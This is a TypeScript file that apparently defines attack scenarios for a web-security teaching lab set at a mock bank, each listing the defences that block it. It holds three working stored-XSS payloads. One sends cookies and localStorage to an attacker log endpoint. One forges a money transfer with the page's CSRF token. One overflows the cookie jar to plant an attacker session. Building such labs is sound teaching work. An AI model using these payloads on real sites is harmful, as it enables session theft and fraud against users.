import { type AttackOf, notWritten } from './attack.ts';

const scriptDefences = ['http-only', 'output-encoding', 'content-security-policy'] as const;

/** Lab 1: a stored comment runs in the victim's page. */
export const theft = [
  {
    id: 'theft-by-script',
    lab: 'theft',
    title: 'A script ships the cookie away',
    story:
      'Mallory’s comment holds a script. It runs in Alice’s page and ships document.cookie, cookieStore and localStorage to the attacker, whose own client then replays the session id: at once, after Alice has logged in once more, and after her logout.',
    goal: 'The bank answers the attacker’s client as if it were Alice.',
    ground: 'comment',
    aim: 'let-in',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    loot: 'session-cookie',
    comesBackWith: 'what-it-stole',
    afterDelivery: 'At the bank, log in once more, and then log out, to see what the stolen id is still worth.',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  const loot = { cookie: document.cookie, storage: { ...localStorage } };
  const all = 'cookieStore' in window ? cookieStore.getAll() : Promise.resolve([]);
  all.then((cookies) => {
    loot.cookieStore = cookies.map(({ name, value }) => name + '=' + value);
    fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
  });
</script>`,
    sign: { at: 'log' },
    defences: [...scriptDefences, 'same-site-strict', 'prefix-host', 'regenerate'],
    probe: null,
  },
  {
    id: 'riding-by-script',
    lab: 'theft',
    title: 'A script rides the session',
    story:
      'The script steals nothing. It fetches the transfer form in Alice’s name, takes the form’s token along, and sends it.',
    goal: 'Alice’s balance goes down.',
    ground: 'comment',
    aim: 'money',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  fetch('{{path}}/transfer').then((answer) => answer.text()).then((text) => {
    const page = new DOMParser().parseFromString(text, 'text/html');
    const fields = new FormData(page.querySelector('form'));
    fields.set('to', 'mallory');
    fields.set('amount', '100');
    fetch('{{path}}/transfer', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(Object.fromEntries(fields)),
    });
  });
</script>`,
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    defences: [...scriptDefences, 'same-site-strict', 'synchronizer-token', 'origin-check'],
    probe: null,
  },
  {
    id: 'jar-overflow',
    lab: 'theft',
    title: 'A script overflows the jar',
    story:
      'A script cannot write over an HttpOnly cookie. So it sets 250 others: the browser evicts the session cookie to make room, and the script plants Mallory’s.',
    goal: 'The bank sees Mallory’s session in Alice’s browser.',
    ground: 'comment',
    aim: 'browser',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    overflowsJar: true,
    afterDelivery: 'Reload the bank’s profile.',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  const rest = '; Path=/; Max-Age=60' + (isSecureContext ? '; Secure' : '');
  for (let n = 0; n < 250; n++) document.cookie = 'o' + n + '-{{lab}}=x' + rest;
  document.cookie = '{{cookie}}={{planted}}' + rest;
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'The jar is full.' });
</script>`,
    sign: { at: 'log' },
    defences: [...scriptDefences, 'prefix-host', 'prefix-host-http'],
    probe: null,
  },
] as const satisfies readonly AttackOf<string>[];
